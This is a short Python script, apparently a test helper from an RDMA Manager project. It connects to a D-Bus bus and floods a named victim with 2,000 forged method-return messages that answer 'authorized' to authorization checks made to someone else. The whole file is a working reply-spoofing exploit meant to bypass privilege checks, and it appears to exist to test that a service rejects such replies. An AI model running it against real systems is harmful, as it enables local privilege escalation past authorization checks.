#!/usr/bin/python3 -B
# SPDX-FileCopyrightText: RDMA Manager contributors
# SPDX-License-Identifier: GPL-3.0-or-later
# Answers "authorized" to calls that were made to somebody else: forger.py BUS-ADDRESS VICTIM. No library sends such a thing.
import os
import socket
import struct
import sys

METHOD_CALL, METHOD_RETURN = 1, 2
PATH, INTERFACE, MEMBER, REPLY_SERIAL, DESTINATION, SIGNATURE = 1, 2, 3, 5, 6, 8
AUTHORIZED = struct.pack("<IIII", 1, 0, 0, 0)  # (bba{ss}): true, false, nothing; padded to a dictionary entry
ANSWERS = 2000


def padded(data: bytes, to: int = 8) -> bytes:
    return data + bytes(-len(data) % to)


def text(value: str) -> bytes:
    return struct.pack("<I", len(value)) + value.encode() + b"\0"


def message(kind: int, serial: int, fields: dict[int, int | str], body: bytes = b"") -> bytes:
    array = b""
    for code, value in fields.items():
        array = padded(array)
        if isinstance(value, int):
            array += struct.pack("<BB2s", code, 1, b"u\0") + struct.pack("<I", value)
        elif code == SIGNATURE:
            array += struct.pack("<BB2sB", code, 1, b"g\0", len(value)) + value.encode() + b"\0"
        else:
            array += struct.pack("<BB2s", code, 1, b"o\0" if code == PATH else b"s\0") + text(value)
    return padded(struct.pack("<cBBBIII", b"l", kind, 0, 1, len(body), serial, len(array)) + array) + body


def connected(address: str) -> socket.socket:
    parts = dict(part.split("=", 1) for part in address.removeprefix("unix:").split(","))
    bus = socket.socket(socket.AF_UNIX)
    bus.settimeout(20)
    bus.connect(parts["path"])
    bus.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    assert bus.recv(200).startswith(b"OK"), "not let in"
    bus.sendall(b"BEGIN\r\n")
    bus.sendall(message(METHOD_CALL, 1, {PATH: "/org/freedesktop/DBus", INTERFACE: "org.freedesktop.DBus", MEMBER: "Hello",
                                         DESTINATION: "org.freedesktop.DBus"}))
    assert bus.recv(4096), "no name"
    return bus


def main() -> int:
    bus = connected(sys.argv[1])
    for serial in range(1, ANSWERS + 1):
        fields = {REPLY_SERIAL: serial, DESTINATION: sys.argv[2], SIGNATURE: "(bba{ss})"}
        bus.sendall(message(METHOD_RETURN, serial + 1, fields, AUTHORIZED))
    bus.sendall(message(METHOD_CALL, ANSWERS + 2, {PATH: "/org/freedesktop/DBus", INTERFACE: "org.freedesktop.DBus",
                                                   MEMBER: "GetId", DESTINATION: "org.freedesktop.DBus"}))
    received = b""
    while struct.pack("<I", ANSWERS + 2) not in received:  # the bus has read all of it
        received += (chunk := bus.recv(65536))
        assert chunk, "thrown off the bus: the messages were malformed"
    print(f"sent {ANSWERS} answers")
    return 0


if __name__ == "__main__":
    sys.exit(main())
